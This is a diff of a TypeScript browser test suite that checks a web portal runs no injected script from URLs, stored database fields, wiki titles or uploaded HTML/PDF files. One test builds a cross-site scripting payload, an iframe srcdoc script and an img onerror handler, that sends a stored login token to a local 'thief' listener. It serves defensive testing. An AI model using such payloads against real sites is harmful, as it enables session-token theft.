@@ -5,13 +5,14 @@ import type { AddressInfo } from 'node:net'
 import { after, before, describe, test } from 'node:test'
 import type { Page } from 'playwright-core'
 import { REDIRECTS, ROUTES, routeOf, type RouteKey } from '../../config/routes'
-import { idOf } from '../../server/demo/deterministic'
 import { SITE_PATH } from '../../server/http/site'
-import { wikiTexts } from '../../server/domains/wiki/wiki.table'
 import { auth } from '../../src/features/auth/auth.i18n'
 import { eventually, wordsIn } from '../screen'
 import { HOSTILE, watch, writeHostileTexts } from './hostile'
-import { openPortal, type Phone, type Portal } from './portal'
+import { makeWiki } from '../factories'
+import { openFullCompany, type FullCompany } from './full-company'
+import { WHOLE } from '../audit'
+import { openPortal, quarter, type Phone, type Portal } from './portal'
 
 const login = wordsIn('zh')(auth)
 /** Pages of one browser that are driven at a time, and screens that a page opens before it is loaded again: those below stay mounted. */
@@ -23,12 +24,22 @@ const REST_MS = 4000
 const hostile = encodeURIComponent(HOSTILE)
 const queryOf = (names: readonly string[], value: string) => names.map(name => `${name}=${value}`).join('&')
 
-/** Every URL of the table, with the hostile text in every parameter that it declares, and in one that it does not. */
+/** A URL of the table, with the hostile text in every parameter that it declares, and in one that it does not. */
+const hostileUrls = (key: RouteKey): string[] => {
+  const { aliases = [], query = [] } = routeOf(key)
+  return [key, ...aliases].map(url => `${url.replace(/:\w+/g, hostile)}?${queryOf([...query, 'probe'], hostile)}`)
+}
+const KEYS = Object.keys(ROUTES) as RouteKey[]
+/** What is not there yet is one page under many URLs. */
+const NOT_THERE = quarter(
+  KEYS.filter(key => routeOf(key).pending),
+  key => key,
+)
+const SHOWN = [...KEYS.filter(key => !routeOf(key).pending), ...NOT_THERE]
+/** Visitors are sent to the login by all others. */
+const OPEN_URLS = SHOWN.filter(key => routeOf(key).open).flatMap(hostileUrls)
 const HOSTILE_URLS = [
-  ...(Object.keys(ROUTES) as RouteKey[]).flatMap(key => {
-    const { aliases = [], query = [] } = routeOf(key)
-    return [key, ...aliases].map(url => `${url.replace(/:\w+/g, hostile)}?${queryOf([...query, 'probe'], hostile)}`)
-  }),
+  ...SHOWN.flatMap(hostileUrls),
   ...Object.keys(REDIRECTS).map(url => `${url.replace(/:\w+/g, hostile)}?probe=${hostile}`),
   // where no screen is: encoded, as it is, and as an address that runs
   `/${hostile}`,
@@ -42,7 +53,7 @@ const HOSTILE_URLS = [
 ]
 
 /** The same with each parameter alone: one that makes no sense may keep a screen from looking at the others. */
-const ONE_BY_ONE = (Object.keys(ROUTES) as RouteKey[]).flatMap(key => {
+const ONE_BY_ONE = KEYS.flatMap(key => {
   const { query = [] } = routeOf(key)
   return query.length < 2 ? [] : query.map(name => `${key.replace(/:\w+/g, '42')}?${queryOf([name], hostile)}`)
 })
@@ -111,9 +122,11 @@ async function listen(): Promise<{ origin: string; got: string[]; stop(): void }
 
 describe('no script but ours runs in the page', { concurrency: false }, () => {
   let portal: Portal
+  let company: FullCompany
   let site = ''
   before(async () => {
     portal = await openPortal()
+    company = await openFullCompany(portal)
     site = portal.url + SITE_PATH
   })
   after(() => portal.stop())
@@ -124,21 +137,15 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
     test(`a title is never more than a text: no link and no article carries a login away, ${way}`, async () => {
       const thief = await listen()
       const title = `<iframe srcdoc="<script>top.location='${thief.origin}/?t='+encodeURIComponent(parent.localStorage['lianke.token'])</script>"></iframe><img src=x onerror="location='${thief.origin}/?t='+localStorage['lianke.token']">`
-      const article = idOf('mufeng article e4-dishwasher')
-      const [old] = await portal.db
-        .select({ title: wikiTexts.title })
-        .from(wikiTexts)
-        .where(sql`${wikiTexts.wikiId} = ${article} and ${wikiTexts.language} = 'zh'`)
-      assert.ok(old)
-      await portal.db
-        .update(wikiTexts)
-        .set({ title })
-        .where(sql`${wikiTexts.wikiId} = ${article} and ${wikiTexts.language} = 'zh'`)
+      const article = await makeWiki(portal.db, company.tenant.id, { texts: { zh: title } })
       try {
-        const phone = await portal.signedIn({ bypassCSP })
+        const phone = await company.signedIn({ bypassCSP })
         const found = await watch(phone.context, portal.url)
-        for (const url of [`/wiki/wikiProductList?catalogId=${encodeURIComponent(title)}`, `/wiki/detail/${article}`]) {
-          await phone.open(url, '?domainId=mufeng')
+        for (const url of [
+          `/wiki/wikiProductList?catalogId=${encodeURIComponent(title)}`,
+          `/wiki/detail/${article.id}`,
+        ]) {
+          await phone.open(url, `?domainId=${company.tenant.domainId}`)
           await eventually(async () =>
             assert.ok((await phone.page.title()).startsWith(title), await phone.page.title()),
           )
@@ -150,19 +157,18 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
         assert.deepEqual([thief.got, found], [[], []])
         await phone.context.close()
       } finally {
-        await portal.db
-          .update(wikiTexts)
-          .set({ title: old.title })
-          .where(sql`${wikiTexts.wikiId} = ${article} and ${wikiTexts.language} = 'zh'`)
         thief.stop()
       }
     })
 
     test(`nothing in a link runs, on no screen, ${way}`, async t => {
-      const ways: [Phone, string[]][] = [
-        [await portal.signedIn({ bypassCSP }), bypassCSP ? [...HOSTILE_URLS, ...ONE_BY_ONE] : HOSTILE_URLS],
-      ]
-      if (bypassCSP) ways.push([await portal.visitor({ bypassCSP }), HOSTILE_URLS])
+      const some = quarter(HOSTILE_URLS, url => url)
+      const ways: [Phone, readonly string[]][] = bypassCSP
+        ? [
+            [await company.signedIn({ bypassCSP }), [...HOSTILE_URLS, ...ONE_BY_ONE]],
+            [await company.visitor({ bypassCSP }), [...new Set([...OPEN_URLS, ...some])]],
+          ]
+        : [[await company.signedIn({ bypassCSP }), some]]
       for (const [phone, urls] of ways) {
         const found = await watch(phone.context, portal.url)
         const shown = await showAll(phone, site, urls)
@@ -175,11 +181,11 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
     })
 
     test(`nothing in the address before the hash runs, ${way}`, async () => {
-      const phone = await portal.visitor({ bypassCSP, kept: { domainId: '' } })
+      const phone = await portal.visitor({ bypassCSP, domainId: '' })
       const found = await watch(phone.context, portal.url)
       for (const query of [
         `?domainId=${hostile}`,
-        `?domainId=mufeng&from=${hostile}&code=${hostile}&state=${hostile}&token=${hostile}&${hostile}`,
+        `?domainId=${company.tenant.domainId}&from=${hostile}&code=${hostile}&state=${hostile}&token=${hostile}&${hostile}`,
       ]) {
         await phone.page.goto('about:blank')
         await phone.page.goto(`${site}/${query}#/mall/index`)
@@ -190,14 +196,12 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
     })
 
     test(`nothing that waits behind the login runs after it, ${way}`, async () => {
-      const phone = await portal.visitor({ bypassCSP })
+      const phone = await company.visitor({ bypassCSP })
       const found = await watch(phone.context, portal.url)
       await phone.open(`/wiki/wikiProductList?catalogId=${hostile}`)
       await phone.at('/login')
       await phone.tap(login('byAccount'))
-      await phone.screen.locator('#login-account').fill('zhangsan')
-      await phone.screen.locator('#login-password').fill('lianke-demo')
-      await phone.screen.locator('#login-submit').click()
+      await company.enterPassword(phone)
       await phone.at('/wiki/wikiProductList')
       await eventually(async () => assert.ok((await phone.page.title()).startsWith(HOSTILE), await phone.page.title()))
       assert.deepEqual(found, [])
@@ -206,8 +210,8 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
   }
 
   test("a file opened by itself runs nothing, and a PDF opens in the browser's own viewer", async () => {
-    const { as } = await portal.linkman()
-    const phone = await portal.visitor()
+    const { as } = company.linkman
+    const phone = await company.visitor()
     const found = await watch(phone.context, portal.url)
     const page = `<html><script>ran()</script><img src=x onerror="ran()">`
     const pdf = `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]>>endobj\n${page}\ntrailer<</Root 1 0 R>>\n%%EOF`
@@ -248,7 +252,7 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
   })
 
   test('the description of the calls works under its policy', async () => {
-    const phone = await portal.visitor()
+    const phone = await company.visitor()
     const found = await watch(phone.context, portal.url)
     await phone.page.goto(`${portal.url}/docs`)
     await phone.page.locator('.opblock').first().waitFor()
@@ -261,14 +265,10 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
 
   // last, because the texts stay as they are
   test('nothing that is stored runs, on no screen', async t => {
-    const { as } = await portal.linkman()
     const ids = async (query: ReturnType<typeof sql>): Promise<string[]> =>
       (await portal.db.execute<{ id: string }>(query)).rows.map(one => one.id)
-    const tenant = idOf('mufeng tenant')
-    const events = (await portal.ok('GET /ssp/event/list', { ...as, query: { state: 'all', pageSize: 50 } })).list
-    const finished = await ids(
-      sql`select e.id from events e join evaluations v on v.event_id = e.id where e.tenant_id = ${tenant} limit 1`,
-    )
+    const tenant = company.tenant.id
+    const { created, onTheWay, filled, evaluated, converted } = company.events
     const columns = await writeHostileTexts(portal.db)
     t.diagnostic(`${String(columns.length)} columns: ${columns.join(' ')}`)
     for (const column of [
@@ -287,37 +287,53 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
       'wiki_files.filename',
       'tenants.logo',
       'linkmen.name',
+      'doors.banners',
+      'evaluations.content',
+      'evaluations.tags',
+      'files.filename',
+      'products.picture',
+      'wikis.cover',
+      'announcements.title',
     ])
       assert.ok(columns.includes(column), column)
 
     /** What a parameter of a feature's screens may be, to show something. */
     const VALUES: Record<string, string[]> = {
-      'event id': [...events.slice(0, 4).map(one => one.id), ...finished],
+      'event id': [created, onTheWay, filled, evaluated, converted],
+      'task id': Object.values(company.tasks),
       'event state': ['all'],
       'event templateId': await ids(sql`select id from event_templates where tenant_id = ${tenant}`),
       'wiki id': await ids(
         sql`(select id from wikis where tenant_id = ${tenant} and format = 'html' limit 2) union all (select id from wikis where tenant_id = ${tenant} and format = 'markdown' limit 2) union all (select id from rich_texts where tenant_id = ${tenant})`,
       ),
-      'wiki keyword': [encodeURIComponent('洗碗机')],
+      'wiki keyword': ['E4'],
       'wiki typeIds': await ids(sql`select id from wiki_types where tenant_id = ${tenant} limit 2`),
       'wiki productId': await ids(sql`select id from products where tenant_id = ${tenant} limit 2`),
       'product id': await ids(sql`select id from products where tenant_id = ${tenant} limit 3`),
       'assistant robotId': await ids(sql`select id from ai_agents where tenant_id = ${tenant}`),
     }
-    const urls = (Object.keys(ROUTES) as RouteKey[]).flatMap(key => {
+    const used = new Set<string>()
+    const urls = KEYS.flatMap(key => {
       const { page, query = [], pending } = routeOf(key)
       if (pending || key === '/login') return []
-      const feature = page.split('/')[1] ?? ''
+      const feature = page.split('/').at(-3) ?? ''
       const path = (id: string) => key.replace(/:\w+/g, id)
-      const own = [...(key.includes(':') ? ['id'] : []), ...query].flatMap(name =>
-        (VALUES[`${feature} ${name}`] ?? []).map(value => `${path(value)}?${name}=${value}`),
-      )
+      const own = [...(key.includes(':') ? ['id'] : []), ...query].flatMap(name => {
+        used.add(`${feature} ${name}`)
+        return (VALUES[`${feature} ${name}`] ?? []).map(value => `${path(value)}?${name}=${value}`)
+      })
       return own.length ? own : [key]
     })
+    assert.deepEqual(
+      Object.entries(VALUES).flatMap(([name, values]) => (used.has(name) && values.length ? [] : [name])),
+      [],
+      'a parameter that no screen has, or no value of it',
+    )
     for (const bypassCSP of [true, false]) {
-      const phone = await portal.signedIn({ bypassCSP })
+      const phone = await company.signedIn({ bypassCSP })
       const found = await watch(phone.context, portal.url)
-      const shown = await showAll(phone, site, urls)
+      // what the policy would have to stop has not run without it
+      const shown = await showAll(phone, site, bypassCSP || WHOLE ? urls : urls.filter((_, n) => n % 4 === 0))
       assert.deepEqual(found, [])
       const drawn = [...shown].filter(([, text]) => text.includes('lianke-canary'))
       t.diagnostic(
